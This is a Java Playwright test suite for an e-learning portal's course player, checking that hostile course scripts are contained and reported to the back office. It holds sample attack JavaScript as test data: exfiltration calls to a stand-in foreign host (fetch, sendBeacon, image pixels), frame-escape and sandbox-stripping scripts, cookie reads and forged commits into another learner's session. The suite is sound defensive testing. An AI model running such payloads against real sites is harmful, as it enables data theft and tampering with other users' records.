package de.kitacampus.portal.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import java.time.Duration;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Courses that try to leave the player, to send something away or to see what is not theirs. Whatever they do, the learner still has
 * the player, the foreign host has heard nothing, and the back office can read what was tried.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@ExtendWith(Shared.class)
class HostileCourseTest {

    private static final Duration SOON = Duration.ofSeconds(20);
    private static final Duration POLL = Duration.ofMillis(100);
    private static final String FOREIGN = "FOREIGN";

    /** Player and course share an origin, so that a course can have the player's own page do something. */
    private static final String INTO_THE_PLAYER =
            "const script = parent.document.createElement('script'); script.src = new URL('drive.js', location.href).href;"
                    + " parent.document.head.append(script);";

    private final ForeignHost foreign = new ForeignHost();
    private final Classroom room;

    HostileCourseTest(Classroom room) {
        this.room = room;
    }

    @AfterAll
    void leave() {
        foreign.close();
    }

    @AfterEach
    void nothingHasReachedTheForeignHost() {
        assertThat(foreign.visits()).isEmpty();
    }

    private Classroom.Seat seat() {
        return room.seat(MadeCourse.scorm12()
                .unitWith("a", "<button id=\"go\" onclick=\"act()\">Los</button>")
                .file("drive.js", "location.href = '" + foreign.url() + "/driven';")
                .file("worker.js", "onmessage = () => {};")
                .file("evil.js", "top.location = '" + foreign.url() + "/script';")
                .file("other.html", "<!doctype html><title>Other</title><p id=\"other\">Anderes</p>")
                .file("merkblatt.pdf", "%PDF-1.4\n%%EOF\n"));
    }

    private Object does(Player player, String script) {
        return player.does("a", script.replace(FOREIGN, foreign.url()));
    }

    /** As a person presses a button of the course; only then would a browser open windows. */
    private void presses(Player player, String script) {
        does(player, "window.act = () => { " + script + " };");
        player.unit("a").locator("#go").click();
    }

    private static void staysInThePlayer(Player player) {
        player.locator("#finish").waitFor();
        assertThat(player.page().url()).contains("/play/s/").startsWith("http://127.0.0.1:");
        assertThat(player.page().locator("#mark").isVisible()).isTrue();
        assertThat(player.page().context().pages()).hasSize(1);
    }

    private void isTold(Classroom.Seat seat, String directive) {
        isTold(seat, directive, foreign.host());
    }

    private void isTold(Classroom.Seat seat, String directive, String host) {
        Locator told = room.backOffice()
                .page()
                .locator(".blocked-attempt[data-directive='" + directive + "'][data-host='" + host + "']");
        Await.until(directive + " is told", SOON, POLL, () -> {
            room.backOffice().open("packages/" + seat.course().value());
            room.backOffice().page().locator("#package-version-1").waitFor();
            return told.count() == 1;
        });
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "connect-src|fetch('FOREIGN/fetch?name=Muster', { mode: 'no-cors' }).catch(() => {});",
                "connect-src|const x = new XMLHttpRequest(); x.open('POST', 'FOREIGN/xhr'); x.onerror = () => {}; x.send('a');",
                "connect-src|navigator.sendBeacon('FOREIGN/beacon', 'a');",
                "connect-src|new EventSource('FOREIGN/events');",
                "connect-src|try { new WebSocket('FOREIGN'.replace('http', 'ws')); } catch (e) {}",
                "img-src|new Image().src = 'FOREIGN/pixel.gif?answer=42';",
                "script-src-elem|document.head.append(Object.assign(document.createElement('script'), { src: 'FOREIGN/s.js' }));",
                "style-src-elem|document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'FOREIGN/s.css' }));",
                "font-src|new FontFace('f', 'url(FOREIGN/f.woff)').load().catch(() => {});",
                "media-src|new Audio('FOREIGN/a.mp3').play().catch(() => {});",
                "frame-src|document.body.append(Object.assign(document.createElement('iframe'), { src: 'FOREIGN/frame' }));",
                "object-src|document.body.append(Object.assign(document.createElement('object'), { data: 'FOREIGN/o.swf' }));",
                "form-action|const f = Object.assign(document.createElement('form'), { method: 'post', action: 'FOREIGN/form' });"
                        + " document.body.append(f); f.submit();",
            })
    void nothing_is_sent_to_or_loaded_from_a_foreign_host(String directive, String script) {
        Classroom.Seat seat = seat();
        Player player = seat.open();

        does(player, script);

        isTold(seat, directive);
        staysInThePlayer(player);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "top.location.href = 'FOREIGN/top';",
                "top.location.replace('FOREIGN/top');",
                "open('FOREIGN/top', '_top');",
                "parent.location.href = 'FOREIGN/parent';",
                "const f = Object.assign(document.createElement('form'), { method: 'post', action: 'FOREIGN/form', target: '_top' });"
                        + " document.body.append(f); f.submit();",
                "const link = parent.document.createElement('a'); link.href = 'FOREIGN/top'; link.target = '_top';"
                        + " parent.document.body.append(link); link.click();",
                "const script = parent.document.createElement('script'); script.src = new URL('evil.js', location.href).href;"
                        + " parent.document.head.append(script);",
                "document.querySelector('iframe')?.removeAttribute('sandbox');"
                        + " parent.document.querySelectorAll('iframe').forEach(one => one.removeAttribute('sandbox')); top.location = 'FOREIGN/top';",
            })
    void a_course_cannot_take_the_window_away(String script) {
        Player player = seat().open();
        player.unit("a");

        presses(player, "try { " + script + " } catch (refused) { window.refused = true; }");
        player.page().waitForTimeout(500);

        staysInThePlayer(player);
        player.unit("a");
    }

    @Test
    void a_course_that_goes_to_a_foreign_page_is_replaced_by_a_sentence_and_begins_again() {
        Classroom.Seat seat = seat();
        Player player = seat.open();

        does(player, "setTimeout(() => { location.href = 'FOREIGN/gone?answer=42'; });");

        assertThat(player.notice()).isEqualTo("Der Kurs wollte eine fremde Seite öffnen");
        isTold(seat, "frame-src");
        staysInThePlayer(player);
        player.press("again");
        player.unit("a");
    }

    @Test
    void a_page_that_refreshes_itself_away_stays() {
        Classroom.Seat seat = seat();
        Player player = seat.open();

        does(
                player,
                "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=FOREIGN/meta\">');");

        assertThat(player.notice()).isEqualTo("Der Kurs wollte eine fremde Seite öffnen");
        isTold(seat, "frame-src");
        staysInThePlayer(player);
    }

    @Test
    void a_player_that_is_driven_away_comes_back() {
        Classroom.Seat seat = seat();
        Player player = seat.open();

        does(player, INTO_THE_PLAYER);

        isTold(seat, "frame-src");
        player.unit("a");
        staysInThePlayer(player);
    }

    @Test
    void a_course_that_drives_the_player_away_again_and_again_ends_with_a_way_back() {
        Player player = room.seat(MadeCourse.scorm12()
                        .unitWith("a", "<script>" + INTO_THE_PLAYER + "</script>")
                        .file("drive.js", "location.href = '" + foreign.url() + "/loop';"))
                .open();

        player.page().locator("#broken").waitFor();
        Browser.screenshot(player.page(), "player-broken");
        player.page().locator("#broken-back").click();
        player.page().waitForURL("**/courses**");
    }

    @Test
    void a_window_to_a_foreign_page_does_not_open_and_the_learner_is_told_where_it_led() {
        Classroom.Seat seat = seat();
        Player player = seat.open();
        player.unit("a");

        presses(player, "window.got = window.open('FOREIGN/window?answer=42');");

        player.locator("#foreign").waitFor();
        assertThat(player.locator("#foreign").innerText()).contains(foreign.host());
        assertThat(does(player, "return window.got === null")).isEqualTo(true);
        Browser.screenshot(player.page(), "player-foreign");
        isTold(seat, "window-open");
        staysInThePlayer(player);
    }

    @Test
    void nor_does_one_that_goes_round_the_player_s_courtesy() {
        Player player = seat().open();
        player.unit("a");

        presses(
                player,
                "const clean = document.createElement('iframe'); document.body.append(clean);"
                        + " window.got = clean.contentWindow.open('FOREIGN/window');"
                        + " const link = Object.assign(document.createElement('a'), { href: 'FOREIGN/link', target: '_blank' });"
                        + " clean.contentDocument.body.append(link); link.click();");
        player.page().waitForTimeout(500);

        assertThat(does(player, "return window.got === null")).isEqualTo(true);
        staysInThePlayer(player);
    }

    @Test
    void a_course_sees_neither_cookie_nor_frame_nor_who_learns() {
        Classroom.Seat seat = seat();
        Player player = seat.open();
        player.page().locator("#mark").waitFor();

        assertThat(does(player, "return document.cookie + parent.document.cookie"))
                .isEqualTo("");
        assertThat(does(player, "try { return top.document.title; } catch (e) { return e.name; }"))
                .isEqualTo("SecurityError");
        assertThat(does(player, "try { return String(top.location.href); } catch (e) { return e.name; }"))
                .isEqualTo("SecurityError");
        assertThat(does(
                        player,
                        "try { document.domain = location.hostname; return 'set'; } catch (e) { return e.name; }"))
                .isEqualTo("SecurityError");
        assertThat(String.valueOf(does(player, "return parent.document.documentElement.outerHTML")))
                .doesNotContain(seat.user().toString())
                .doesNotContain("localhost:9");
    }

    @Test
    void a_course_leaves_no_service_worker_behind() {
        Player player = seat().open();

        assertThat(
                        does(
                                player,
                                "return navigator.serviceWorker"
                                        + " ? navigator.serviceWorker.register('worker.js').then(() => 'in', e => e.name) : 'none'"))
                .isIn("SecurityError", "TypeError", "none");
        assertThat(
                        does(
                                player,
                                "return new Promise(done => { const w = new Worker('worker.js');"
                                        + " w.onerror = () => done('no'); w.postMessage(1); setTimeout(() => done('yes'), 500); })"))
                .as("an ordinary worker")
                .isEqualTo("yes");
    }

    @Test
    void a_course_writes_no_other_learner_s_attempt() {
        Player other = seat().open();
        String session = other.page().url().replaceFirst(".*/play/s/", "/play/s/");
        Player player = seat().open();

        for (String call : new String[] {"commit/0?run=1&sequence=9&final=true", "begin/0", "heartbeat", "report"}) {
            assertThat(does(
                            player,
                            "return fetch('" + session + call
                                    + "', { method: 'POST', credentials: 'include', body: '{\"cmi\":{\"core\":{\"lesson_status\":\"passed\"}}}' })"
                                    + ".then(answer => answer.status)"))
                    .as(call)
                    .isEqualTo(403);
        }
        assertThat(other.standing()).isEqualTo("STARTED");
    }

    @Test
    void the_mark_lies_over_the_course_and_takes_no_click() {
        Classroom.Seat seat = seat();
        for (Player player : new Player[] {seat.open(room.device()), seat.open(room.phone())}) {
            player.unit("a");
            Locator mark = player.page().locator("#mark");
            mark.waitFor();
            assertThat(mark.innerText()).matches("[A-Z]{3}-\\d{5} · " + seat.user());
            assertThat(
                            mark.evaluate(
                                    "mark => { const box = mark.getBoundingClientRect();"
                                            + " const under = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);"
                                            + " return under.id + ' ' + (box.left >= 0 && box.right <= innerWidth && box.bottom <= innerHeight); }"))
                    .isEqualTo("player true");
            Browser.screenshot(player.page(), "player-mark-" + player.page().viewportSize().width);
            does(player, "document.body.style.background = '#000'; parent.document.body.style.background = '#000';");
            assertThat(mark.isVisible()).isTrue();
        }
    }

    @Test
    void the_full_screen_of_the_player_takes_the_mark_along_and_the_course_has_none_of_its_own() {
        Player player = seat().open();
        player.unit("a");

        presses(
                player,
                "window.full = document.documentElement.requestFullscreen().then(() => 'full', () => 'refused');");
        assertThat(does(player, "return window.full")).isEqualTo("refused");

        player.press("full-screen");
        player.page().waitForFunction("() => document.fullscreenElement === document.documentElement");
        assertThat(player.page().locator("#mark").isVisible()).isTrue();
        player.page().waitForTimeout(200);
        Browser.screenshot(player.page(), "player-full-screen");
        assertThat(player.locator("#full-screen").getAttribute("aria-pressed")).isEqualTo("true");
        player.press("full-screen");
        player.page().waitForFunction("() => !document.fullscreenElement");
    }

    @Test
    void its_own_pages_open_within_the_player_and_its_documents_beside_it() {
        Player player = seat().open();
        player.unit("a");

        presses(
                player,
                "const link = Object.assign(document.createElement('a'), { href: 'other.html', target: '_blank', textContent: 'x' });"
                        + " document.body.append(link); link.click();");
        Frame window = player.frame("document.getElementById('other')");
        assertThat(player.locator("#window-title").innerText()).isIn("Other", "Fenster des Kurses");
        Browser.screenshot(player.page(), "player-window");
        player.press("window-close");
        assertThat(window.isDetached()).isTrue();
        staysInThePlayer(player);

        Page document = player.page()
                .waitForPopup(() -> presses(
                        player,
                        "const link = Object.assign(document.createElement('a'), { href: 'merkblatt.pdf' });"
                                + " document.body.append(link); link.click();"));
        document.close();
        staysInThePlayer(player);
    }

    @Test
    void a_page_of_the_course_in_a_window_of_its_own_leads_back_into_the_player() {
        Player player = seat().open();
        String page = player.unit("a").url();
        Page alone = player.page().context().newPage();

        alone.navigate(page);

        new Player(alone).unit("a");
        assertThat(alone.url()).doesNotContain("/c/");
    }

    @Test
    void an_address_taken_to_another_browser_opens_nothing() {
        Player player = seat().open();
        Page elsewhere = room.device().newPage();

        assertThat(elsewhere.request().get(player.unit("a").url()).status()).isEqualTo(403);
        elsewhere.navigate(player.page().url());
        new Player(elsewhere).locator("#message").waitFor();
        assertThat(new Player(elsewhere).locator("#message h1").innerText())
                .isEqualTo("Hier kann kein Kurs gestartet werden");
        assertThat(elsewhere.locator("#mark").isVisible()).isFalse();
    }

    @Test
    void the_back_office_reads_what_was_tried_with_the_package_and_on_the_page_of_the_copy_protection() {
        Classroom.Seat seat = seat();
        does(seat.open(), "fetch('FOREIGN/a?name=Muster').catch(() => {}); new Image().src = 'FOREIGN/b.gif';");
        isTold(seat, "connect-src");
        isTold(seat, "img-src");
        BackOffice office = room.backOffice();
        assertThat(office.page().locator("#package-version-1").innerText())
                .contains("Daten senden oder holen: " + foreign.host() + " (connect-src) – 1 × zwischen")
                .doesNotContain("Muster");
        office.screenshot("master-package-tried");
        office.open("copy-protection");
        office.awaitText(foreign.host());
        office.screenshot("master-copy-protection");
    }

    @Test
    void questions_of_a_course_are_shown() {
        Player player = seat().open();
        player.page().onDialog(com.microsoft.playwright.Dialog::accept);

        assertThat(does(player, "return confirm('Weiter?') && String(alert('Gut.'))"))
                .isEqualTo("undefined");
    }
}
